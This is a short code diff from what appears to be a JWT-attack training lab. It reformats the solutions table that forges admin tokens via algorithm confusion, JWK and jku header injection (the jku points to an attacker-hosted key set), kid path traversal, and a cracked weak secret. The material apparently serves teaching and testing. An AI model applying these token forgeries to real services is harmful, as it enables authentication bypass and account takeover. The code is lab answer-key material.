@@ -167,7 +167,8 @@ def _solutions(grace: str, jwks: dict, target: lab.Target, attacker_url: str) ->
         "algorithm-confusion": lab.forge({**header, "alg": "HS256"}, admin, lab.hs256(x.encode())),
         "jwk-injection": lab.forge({"alg": "EdDSA", "kid": "me", "jwk": lab.public_jwk(lab.attacker_key(), "me")},
                                    admin, mine),
-        "jku-injection": lab.forge({"alg": "EdDSA", "kid": "attacker", "jku": attacker_url + "/jwks.json"}, admin, mine),
+        "jku-injection": lab.forge({"alg": "EdDSA", "kid": "attacker", "jku": attacker_url + "/jwks.json"},
+                                   admin, mine),
         "kid-traversal": lab.forge({"alg": "HS256", "kid": "../" * 12 + "dev/null"}, admin, lab.hs256(b"")),
         "weak-secret": lab.forge({"alg": "HS256", "typ": "JWT"}, admin, lab.hs256(cracked.encode())),
     }
